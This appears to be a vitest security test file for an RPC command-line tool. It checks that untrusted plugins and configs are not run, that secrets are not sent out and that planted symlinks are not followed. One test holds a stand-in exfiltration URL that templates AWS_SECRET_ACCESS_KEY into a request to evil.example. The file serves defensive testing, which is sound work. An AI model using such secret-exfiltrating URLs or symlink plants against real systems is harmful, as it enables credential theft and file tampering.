/** Projects of strangers: what they may not read, run, write or send before anybody has agreed. */
import { chownSync, existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { isDeep } from "@dotrpc/vitest/depth"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { type Bounds, dotrpc, startDotrpc } from "../src/Command.ts"
import { type HostileServer, startHostileServer } from "../src/HostileServer.ts"
import { makeProject, type Project, well } from "../src/Project.ts"
import { wrongOutcome } from "../src/Verdict.ts"

const bounds: Bounds = { seconds: 20, megabytes: 700 }
const storage = 'eth_getStorageAt ["0x5fbdb2315678afecb367f032d93f642f64180aa3", "0x0", "latest"]'
const requests = `### One\n# @network evm\n# @name one\n${storage}\n`

let server: HostileServer
beforeAll(async () => {
  server = await startHostileServer([well])
})
afterAll(() => server[Symbol.asyncDispose]())

const write = (folder: string, files: Readonly<Record<string, string>>): void => {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
}

/** A configuration with a plugin of its own that leaves a mark when it is run. */
const marking = (mark: string): Readonly<Record<string, string>> => ({
  "rpc.config.json": JSON.stringify({
    plugins: ["@dotrpc/plugin-evm", "./own.mjs"],
    networks: { evm: { plugin: "evm", url: "embedded:evm" } },
  }),
  "own.mjs": `import { writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(mark)}, "ran")\nexport default { id: "own", title: "Own", docs: "Own.", methods: [], functions: [], networks: [] }\n`,
})

const commands: ReadonlyArray<ReadonlyArray<string>> = [
  ["check", "a.rpc"],
  ["check", "a.rpc", "--format", "json"],
  ["fmt", "--check", "a.rpc"],
  ["run", "a.rpc", "--dry-run"],
  ["run", "a.rpc"],
  ["credits"],
  ["scan", "eth_getLogs", '[{"fromBlock":"0x0","toBlock":"0x1"}]', "--plan"],
].filter((command) => isDeep || command.join(" ") === "check a.rpc" || command.join(" ") === "run a.rpc")

describe("code of a project that nobody has agreed to run", () => {
  const check = (what: string, make: (project: Project, mark: string) => string) =>
    it(`is not run: ${what}`, async () => {
      using project = makeProject({})
      const mark = join(project.folder, "mark")
      const cwd = make(project, mark)
      for (const command of commands) {
        const outcome = await dotrpc(command, { ...project.place, cwd }, bounds)
        expect(wrongOutcome(outcome, bounds, new Set([0, 1, 2, 3, 4])), command.join(" ")).toEqual([])
        expect(existsSync(mark), command.join(" ")).toBe(false)
      }
    })
  check("in its own folder", ({ folder }, mark) => {
    write(folder, { "mine/a.rpc": requests, ...within("mine", marking(mark)) })
    return join(folder, "mine")
  })
  check("in a folder above the repository", ({ folder }, mark) => {
    write(folder, {
      ...within("above", marking(mark)),
      "above/repository/a.rpc": requests,
      "above/repository/.git/HEAD": "ref: refs/heads/main\n",
    })
    return join(folder, "above/repository")
  })
  check("in a folder above that is somebody else's", ({ folder }, mark) => {
    write(folder, { ...within("above", marking(mark)), "above/mine/a.rpc": requests })
    giveAway(join(folder, "above"), join(folder, "above/rpc.config.json"), join(folder, "above/own.mjs"))
    return join(folder, "above/mine")
  })
  check("by a link to a folder elsewhere", ({ folder }, mark) => {
    write(folder, { ...within("elsewhere", marking(mark)), "mine/a.rpc": requests })
    symlinkSync(join(folder, "elsewhere/rpc.config.json"), join(folder, "mine/rpc.config.json"))
    symlinkSync(join(folder, "elsewhere/own.mjs"), join(folder, "mine/own.mjs"))
    return join(folder, "mine")
  })
})

const within = (folder: string, files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]))

/** Only a superuser can give files away; anyone else who runs this tests their own folder. */
const giveAway = (...paths: ReadonlyArray<string>): void => {
  if (process.getuid?.() === 0) for (const path of paths) chownSync(path, 65_534, 65_534)
}

describe("a configuration in a folder above", () => {
  const check = (what: string, make: (folder: string) => string) =>
    it(`does not count when it is ${what}`, async () => {
      using project = makeProject({})
      const cwd = make(project.folder)
      write(cwd, { "a.rpc": requests })
      const outcome = await dotrpc(["run", "a.rpc", "--format", "json"], { ...project.place, cwd }, bounds)
      expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
      expect(server.calls("well")).toEqual([])
    })
  const sending = () => JSON.stringify({ networks: { evm: { plugin: "evm", url: `${server.origin}/well/v3/x` } } })
  check("above the repository", (folder) => {
    write(folder, { "rpc.config.json": sending(), "repository/.git/HEAD": "ref: refs/heads/main\n" })
    return join(folder, "repository")
  })
  if (process.getuid?.() === 0)
    check("somebody else's", (folder) => {
      write(folder, { "shared/rpc.config.json": sending(), "shared/mine/x": "" })
      giveAway(join(folder, "shared"), join(folder, "shared/rpc.config.json"))
      return join(folder, "shared/mine")
    })
})

describe("a secret", () => {
  const secret = "canary-51f20cb7d4"
  const network = (url: string) => JSON.stringify({ networks: { evm: { plugin: "evm", url } } })
  const checkRun = async (project: Project, config: string, codes: ReadonlySet<number>) => {
    writeFileSync(join(project.folder, "rpc.config.json"), config)
    const env = { ...project.place.env, AWS_SECRET_ACCESS_KEY: secret, DOTRPC_ALLOW_HOSTS: "" }
    const outcome = await dotrpc(["run", "a.rpc", "--format", "json"], { ...project.place, env }, bounds)
    expect(wrongOutcome(outcome, bounds, codes)).toEqual([])
    expect(outcome.stdout + outcome.stderr).not.toContain(secret)
  }

  const checkOther = (what: string, url: (host: string) => string) =>
    it(`goes to no other host than before: ${what}`, async () => {
      await using first = await startHostileServer([well])
      await using other = await startHostileServer([well])
      using project = makeProject({ "a.rpc": requests })
      await checkRun(project, network(url(first.origin)), new Set([0]))
      expect(first.calls("well")).toHaveLength(1)
      await checkRun(project, network(url(other.origin)), new Set([2]))
      expect(other.calls("well")).toEqual([])
    })
  checkOther("in the path", (host) => `${host}/well/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}`)
  checkOther("in the query", (host) => `${host}/well/v3/x?a={{$secret.AWS_SECRET_ACCESS_KEY}}`)

  it("goes to no host outside this machine unasked", async () => {
    using project = makeProject({ "a.rpc": requests })
    await checkRun(project, network("http://evil.example/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}"), new Set([2]))
  })

  it("is not read as a variable of the environment that nobody listed", async () => {
    await using other = await startHostileServer([well])
    using project = makeProject({ "a.rpc": requests })
    await checkRun(project, network(`${other.origin}/well/v3/{{$env.AWS_SECRET_ACCESS_KEY}}`), new Set([2]))
    expect(other.calls("well")).toEqual([])
  })
})

describe("a file that something else was planted for", () => {
  it("is written beside the link, and what the link leads to stays as it was", async () => {
    using project = makeProject({ "rpc.config.json": "{}", victim: "precious\n" })
    const victim = join(project.folder, "victim")
    for (const planted of [
      "logs.ndjson.checkpoint.next",
      "logs.ndjson.checkpoint",
      "logs.ndjson.next",
      "report.json.next",
    ])
      symlinkSync(victim, join(project.folder, planted))
    const scan = [
      "scan",
      "eth_getLogs",
      '[{"fromBlock":"0x0","toBlock":"0x3e7"}]',
      "--network",
      "evm",
      "--output",
      "logs.ndjson",
    ]
    const outcome = await dotrpc(scan, project.place, bounds)
    expect(wrongOutcome(outcome, bounds, new Set([0, 2, 3]))).toEqual([])
    expect(readFileSync(victim, "utf8")).toBe("precious\n")
    expect(lstatSync(victim).isFile()).toBe(true)
  })
})

describe("a file that is not a regular one", () => {
  const check = (name: string, ...args: ReadonlyArray<string>) =>
    it(`is refused soon: ${name}`, async () => {
      using project = makeProject({ "rpc.config.json": "{}", "a.rpc": requests })
      const outcome = await dotrpc(args, project.place, bounds)
      expect(wrongOutcome(outcome, bounds, new Set([0, 2]))).toEqual([])
    })
  check("/dev/zero", "check", "/dev/zero")
  check("/dev/zero as a configuration", "check", "a.rpc", "--config", "/dev/zero")
  check("a share of the network", "check", "//127.0.0.1/share/a.rpc")

  it("is not read forever: standard input without end", async () => {
    using project = makeProject({ "rpc.config.json": "{}" })
    const running = startDotrpc(["check", "-"], project.place, bounds)
    const piece = "### a\n".repeat(20_000)
    for (let sent = 0; sent < 400; sent++) {
      running.write(piece)
      await new Promise((resolve) => setImmediate(resolve))
    }
    running.end()
    expect(wrongOutcome(await running.ended, bounds, new Set([0, 2]))).toEqual([])
  })
})
